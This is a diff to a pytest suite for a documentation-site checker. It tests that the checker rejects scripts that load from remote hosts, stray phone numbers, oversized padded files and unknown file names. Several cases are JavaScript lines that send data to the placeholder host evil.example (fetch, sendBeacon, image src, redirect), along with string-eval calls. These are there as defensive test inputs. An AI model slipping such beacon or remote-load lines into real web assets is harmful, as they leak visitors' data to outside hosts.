@@ -7,7 +7,7 @@ from pathlib import Path
 import pytest
 
 from guides.load import load
-from support import SAMPLE
+from support import HERE, SAMPLE
 
 PAGE = "---\ntitle: A page\n---\n# A page\n"
 
@@ -65,11 +65,35 @@ def test_what_looks_like_that_and_is_none_passes(name: str, tmp_path: Path) -> N
         ("assets/javascripts/a.js", 'new EventSource("//evil.example")'),
         ("assets/javascripts/a.js", 'navigator.sendBeacon("//evil.example", "x")'),
         ("assets/javascripts/a.js", 'Function("x")()'),
+        ("assets/javascripts/a.js", 'fetch("https://evil.example/")'),
+        ("assets/javascripts/a.js", 'picture.src = "//evil.example/x.png"'),
+        ("assets/javascripts/a.js", "location = `http://evil.example/${name}`"),
+        ("assets/javascripts/a.js", 'setTimeout("steal()", 1)'),
         ("assets/javascripts/a.js", 'navigator["serviceWorker"]["register"]("x")'),
     ],
 )
 def test_what_loads_from_elsewhere_is_refused(name: str, text: str, tmp_path: Path) -> None:
-    assert found(tmp_path, name, text) == [(f"docs/{name}", "asset-remote")]
+    assert {*found(tmp_path, name, text)} == {(f"docs/{name}", "asset-remote")}
+
+
+def test_a_stylesheet_prints_no_number(tmp_path: Path) -> None:
+    style = 'a::after {\n  content: "Call 1-800-555-0199";\n}\nb { width: 1800555019px }\n'
+    assert found(tmp_path, "assets/stylesheets/a.css", style) == [("docs/assets/stylesheets/a.css", "phone-undeclared")]
+
+
+def test_a_script_may_name_an_address(tmp_path: Path) -> None:
+    script = 'const svg = "http://www.w3.org/2000/svg"; const half = "a" // a word\n;const way = "../" + name;\n'
+    assert found(tmp_path, "assets/javascripts/a.js", script) == []
+
+
+@pytest.mark.parametrize("name", ["assets/javascripts/a.js", "assets/stylesheets/a.css", "assets/fonts/a.woff2"])
+def test_a_file_of_which_only_a_part_would_be_read_is_refused(name: str, tmp_path: Path) -> None:
+    assert found(tmp_path, name, "wOF2" + " " * 1_200_000) == [(f"docs/{name}", "file-size")]
+
+
+def test_the_address_of_a_page_has_no_number(tmp_path: Path) -> None:
+    text = PAGE.replace("title: A page", "title: A page\ndescription: What helps when nothing else does, in short.")
+    assert found(tmp_path, "help/call-18005550199.md", text) == [("docs/help/call-18005550199.md", "phone-undeclared")]
 
 
 def test_a_name_of_other_bytes_than_utf8_is_told_and_not_a_traceback(tmp_path: Path) -> None:
@@ -123,3 +147,17 @@ def test_an_imprint_has_the_contacts_that_the_settings_name(
 ) -> None:
     (tmp_path / "mkdocs.yml").write_text(f"extra: {{contacts: {contacts}}}\n", encoding="utf-8")
     assert found(tmp_path, name, IMPRINT) == [(f"docs/{name}", rule) for rule in rules]
+
+
+def test_no_file_of_an_unknown_name_or_kind_passes(tmp_path: Path) -> None:
+    """attacks/names.txt has one a line, as Python writes it."""
+    listed = (HERE / "attacks/names.txt").read_text(encoding="ascii").splitlines()
+    names = [line.encode().decode("unicode_escape") for line in listed]
+    docs = shutil.copytree(SAMPLE / "docs", tmp_path / "docs")
+    for name in names:
+        path = docs / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(PAGE, encoding="utf-8")
+    told = {one.path for one in load(docs)[1] if one.is_error}
+    assert [name for name in names if f"docs/{name}" not in told] == []
+    assert len(names) > 100
